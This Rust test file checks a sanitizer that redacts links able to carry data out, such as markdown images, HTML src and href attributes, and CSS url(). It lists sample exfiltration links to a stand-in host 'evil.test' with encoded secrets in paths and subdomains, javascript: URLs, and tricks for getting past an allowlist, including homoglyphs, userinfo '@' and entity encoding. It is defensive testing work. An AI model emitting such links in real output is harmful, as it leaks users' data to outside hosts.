//! Which links are taken for carriers of data, and which are left alone.

use proptest::prelude::*;
use sanitize::testing::suite;
use sanitize::{Action, Finding, Links, Sanitizer};

use crate::{clean, single, streamed};

const HOSTS: [&str; 2] = ["good.example", "*.cdn.example"];

fn redacting() -> Sanitizer {
    Sanitizer::builder().detector(Links::new(HOSTS), Action::Redact).placeholder("[x]").build().unwrap()
}

fn rules(text: &str) -> Vec<String> {
    redacting().check(text).findings().iter().map(|finding: &Finding| finding.rule().to_owned()).collect()
}

/// A text, what is left of it, and the rule.
pub(crate) const CARRIERS: &[(&str, &str, &str)] = &[
    ("a ![pic](https://evil.test/p.png) b", "a ![pic]([x]) b", "link.image"),
    ("![](<https://evil.test/a b?q=1>)", "![](<[x]>)", "link.image"),
    ("![p](  https://evil.test/(a)/b \"title\")", "![p](  [x] \"title\")", "link.image"),
    ("![p](//evil.test/p)", "![p]([x])", "link.image"),
    ("![p](HTTPS://EVIL.test)", "![p]([x])", "link.image"),
    ("![p](https://good.example@evil.test/x)", "![p]([x])", "link.image"),
    ("![p](https:\\\\evil.test\\x)", "![p]([x])", "link.image"),
    ("![p](https://good.example.evil.test/x)", "![p]([x])", "link.image"),
    ("![p](https://good.example\\.evil.test/x)", "![p]([x])", "link.image"),
    ("![p](https://good.example\\@evil.test/x)", "![p]([x])", "link.image"),
    ("![p](https://evil.test\\@good.example/x)", "![p]([x])", "link.image"),
    ("![p](https\\://evil.test/x)", "![p]([x])", "link.image"),
    ("![p](https://cdn.example/x)", "![p]([x])", "link.image"),
    ("![p](https://evil.test#good.example)", "![p]([x])", "link.image"),
    ("![p](https://[2001:db8::1]/x)", "![p]([x])", "link.image"),
    ("![p](https://gооd.example/x)", "![p]([x])", "link.image"),
    ("![p](&#104;ttps&colon;//evil.test)", "![p]([x])", "link.image"),
    ("<img src=\"https://evil.test/i.png\" alt=x>", "<img src=\"[x]\" alt=x>", "link.load"),
    ("<img alt='' SRC = 'ht\ntps:/\t/evil.test/i'>", "<img alt='' SRC = '[x]'>", "link.load"),
    ("<img src=//evil.test/i>", "<img src=[x]>", "link.load"),
    ("<img srcset=\"a.png 1x, https://evil.test/b 2x\">", "<img srcset=\"[x]\">", "link.load"),
    ("<iframe src=\" https://evil.test\">", "<iframe src=\" [x]\">", "link.load"),
    ("<link rel=preload href='https://evil.test/s'>", "<link rel=preload href='[x]'>", "link.load"),
    ("<video poster=\"https://evil.test/p\">", "<video poster=\"[x]\">", "link.load"),
    ("<object data=\"https://evil.test/p\">", "<object data=\"[x]\">", "link.load"),
    ("<body background=\"https:&#x2F;/evil.test/p\">", "<body background=\"[x]\">", "link.load"),
    ("<p style=\"background:url(https://evil.test/p)\">", "<p style=\"background:url([x])\">", "link.load"),
    ("p { background: URL( 'https://evil.test/p' ) }", "p { background: URL( '[x]' ) }", "link.load"),
    ("@import \"https://evil.test/p.css\";", "@import \"[x]\";", "link.load"),
    ("[here](https://evil.test/?q=c2VjcmV0cw)", "[here]([x])", "link.data"),
    ("[here]( https://evil.test/a#token=abcdefgh )", "[here]( [x] )", "link.data"),
    ("![x][1]\n\n[1]: https://evil.test/ann/smith", "![x][1]\n\n[1]: [x]", "link.image"),
    ("[1]: https://evil.test/?d=abcdefgh \"t\"", "[1]: [x] \"t\"", "link.image"),
    ("[1]: <https://evil.test/a b>", "[1]: <[x]>", "link.image"),
    ("<https://evil.test/?d=abcdefgh>", "<[x]>", "link.data"),
    ("See https://evil.test/?abcdefgh. So", "See [x]. So", "link.data"),
    ("(www.evil.test/?d=abcdefgh)", "([x])", "link.data"),
    ("https://evil.test/c2VjcmV0IGtleSAxMjM0NTY3ODkw/x", "[x]", "link.data"),
    ("https://evil.test/my%20key%20is%20a%20b", "[x]", "link.data"),
    ("http://c2vjcmv0igtlesaxmjm0nty3odkw.evil.test/", "[x]", "link.data"),
    ("<a href=\"https://evil.test/?d=abcdefgh\">x</a>", "<a href=\"[x]\">x</a>", "link.data"),
    ("<form action='//evil.test/?d=abcdefgh'>", "<form action='[x]'>", "link.data"),
    ("[see](https://evil.test/[EMAIL_1])", "[see]([x])", "link.data"),
    ("[see](<https://[SECRET_12].evil.test/>)", "[see](<[x]>)", "link.data"),
    ("See https://evil.test/a-[IP_3].", "See [x].", "link.data"),
    ("[x](javascript:alert(1))", "[x]([x])", "link.script"),
    ("[x](java\tscript:alert)", "[x](java\tscript:alert)", ""),
    ("<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"[x]\">x</a>", "link.script"),
    ("<iframe src='data:text/html,hi'>", "<iframe src='[x]'>", "link.script"),
];

#[test]
fn carriers_are_redacted_however_they_are_cut() {
    for (text, want, rule) in CARRIERS {
        let want_rules: Vec<&str> = [*rule].into_iter().filter(|rule| !rule.is_empty()).collect();
        assert_eq!(rules(text), want_rules, "{text}");
        assert_eq!(clean(&redacting(), text), *want);
        assert_eq!(streamed(&redacting(), single(text)).unwrap(), *want);
        for (cut, _) in text.char_indices() {
            assert_eq!(streamed(&redacting(), [&text[..cut], &text[cut..]]).unwrap(), *want, "cut at {cut}");
        }
    }
}

#[test]
fn ordinary_links_stay() {
    for text in [
        "![p](https://good.example/p.png?session=abcdefghijkl)",
        "![p](https://Good.Example.:443/p.png)",
        "![p](https://user@good.example/p.png)",
        "![p](https://img.cdn.example/p.png)",
        "![p](https://goo%64.example/p.png)",
        "![p](pictures/p.png) ![q](/p.png) ![r](#r)",
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        "<img src=\"p.png\" srcset=\"p.png 1x, https://good.example/q.png 2x\">",
        "[docs](https://docs.test/guide/getting-started#installing-the-package)",
        "See https://docs.test/watch?v=abc&t=10 and www.docs.test/a.",
        "https://docs.test/a/very-long-title-of-an-article-that-goes-on-2024-01-02",
        "https://de.docs.test/wiki/%C3%9Cbergr%C3%B6%C3%9Fentr%C3%A4ger_der_Stadt",
        "<a href='https://docs.test/'>docs</a> <script src=\"./app.js\"></script>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"#a\"/></svg>",
        "let a = b(c): d = \"h\"; x ? y : //comment",
        "button.setURL(\"https://docs.test/\")",
        "[1]: https://good.example/guide \"t\" [2]: /guide",
        "[a](https://good.example/[EMAIL_1]) [b](mailto:[EMAIL_1]) [c](/[EMAIL_1])",
        "[a](https://docs.test/[EMAIL]) [b](https://docs.test/[NOTE_1]) [c](https://docs.test/[EMAIL_01])",
        "[a](mailto:a@docs.test) [b](tel:123) array[i](https) dict[k]: w",
    ] {
        assert_eq!(rules(text), <[&str; 0]>::default(), "{text}");
        assert_eq!(streamed(&redacting(), single(text)).unwrap(), text);
    }
}

#[test]
fn a_link_or_host_longer_than_what_is_read_is_removed_to_its_end() {
    let host = "a".repeat(400);
    let text = format!("![p](https://{host}.test/x) and <img src=\"https://evil.test/?{}\"> end", "é".repeat(300));
    let want = "![p]([x]) and <img src=\"[x]\"> end";
    assert_eq!(clean(&redacting(), &text), want);
    assert_eq!(streamed(&redacting(), single(&text)).unwrap(), want);
}

#[test]
fn a_reader_sees_an_allowed_link_without_delay() {
    let mut stream = redacting().stream();
    assert_eq!(stream.push("see [docs](https://good.example/a").unwrap(), "see [docs](https://good.example/a");
    assert_eq!(stream.push(" and h").unwrap(), " and ");
    assert_eq!(stream.push("ow").unwrap(), "how");
}

#[test]
fn the_contract_of_a_detector_is_kept() {
    let samples: Vec<&str> = CARRIERS.iter().map(|(text, ..)| *text).collect();
    suite(|| Links::new(HOSTS), &samples).unwrap();
}

fn fragments() -> impl Strategy<Value = String> {
    let pieces = vec![
        "!",
        "[",
        "]",
        "](",
        "(",
        ")",
        "<",
        ">",
        "\"",
        "'",
        " ",
        "\n",
        "<img ",
        "src",
        "srcset",
        "href",
        "=",
        "url(",
        "]: ",
        "https",
        "http",
        ":",
        "//",
        "\\",
        "evil.test",
        "good.example",
        "/",
        "?",
        "q=",
        "abcdefgh",
        "#",
        "@",
        "&#x2f;",
        "javascript:",
        "www.",
        "é",
        "a",
        ",",
        ".",
        "0123456789abcdefghij0123456789",
    ];
    proptest::collection::vec(proptest::sample::select(pieces), 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn a_stream_says_what_the_whole_says(text in fragments(), cut in any::<proptest::sample::Index>()) {
        let whole = clean(&redacting(), &text);
        let ends: Vec<usize> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
        let cut = ends[cut.index(ends.len())];
        prop_assert_eq!(streamed(&redacting(), [&text[..cut], &text[cut..]]).unwrap(), whole.clone());
        prop_assert_eq!(streamed(&redacting(), single(&text)).unwrap(), whole);
    }
}
